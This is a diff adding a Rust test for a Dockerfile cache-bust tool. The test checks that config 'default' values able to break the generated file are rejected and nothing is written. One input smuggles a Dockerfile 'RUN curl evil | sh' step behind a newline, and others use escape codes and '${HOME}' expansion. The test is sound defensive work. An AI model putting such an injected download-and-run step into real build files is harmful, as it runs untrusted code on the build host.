@@ -1184,3 +1184,50 @@ fn a_constant_with_a_newline_is_one_finding_on_one_line() {
     let out = command(dir.path(), &github).output().unwrap();
     assert_eq!(stdout(&out).lines().count(), 1, "{}", stdout(&out));
 }
+
+/// A config `default` is written into Dockerfiles and compose files: one that could change their
+/// structure (a trailing backslash swallowing the next line, a newline, a blank, a quote, `$`, `}`, a
+/// control character) is an error at its place in the config, and nothing is written.
+#[test]
+fn a_config_default_that_would_change_the_file_is_an_error_at_its_place() {
+    for default in [
+        r#""C:\\""#,
+        r#""a\nRUN curl evil | sh""#,
+        r#""two words""#,
+        r#""x\"y""#,
+        r#""${HOME}""#,
+        r#""a}b""#,
+        r#""esc\u001b[2J""#,
+        r#""a#b""#,
+    ] {
+        let dir = tree();
+        let config = format!("[cache-bust]\ndefault = {default}\n");
+        write(dir.path(), "cachebust.toml", config.as_bytes());
+        let out = command(
+            dir.path(),
+            &["check", "--fix", "--output-format", "concise"],
+        )
+        .output()
+        .unwrap();
+        let err = stderr(&out);
+        assert_eq!(code(&out), Some(2), "{default}: {err}");
+        assert!(err.contains("cachebust.toml:2:11"), "{default}: {err}");
+        assert!(
+            err.contains("`default` must be one plain word"),
+            "{default}: {err}"
+        );
+        assert!(!err.contains('\u{1b}'), "{default}: {err:?}");
+        let text = std::fs::read_to_string(dir.path().join("other/Dockerfile")).unwrap();
+        assert_eq!(text, OTHER, "{default}: the file was written");
+    }
+    let dir = tree();
+    write(
+        dir.path(),
+        "cachebust.toml",
+        b"[cache-bust]\ndefault = \"v1.2+build:3\"\n",
+    );
+    let out = command(dir.path(), &["check", "--fix"]).output().unwrap();
+    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
+    let text = std::fs::read_to_string(dir.path().join("other/Dockerfile")).unwrap();
+    assert!(text.contains("ARG CACHE_BUST=v1.2+build:3\n"), "{text}");
+}
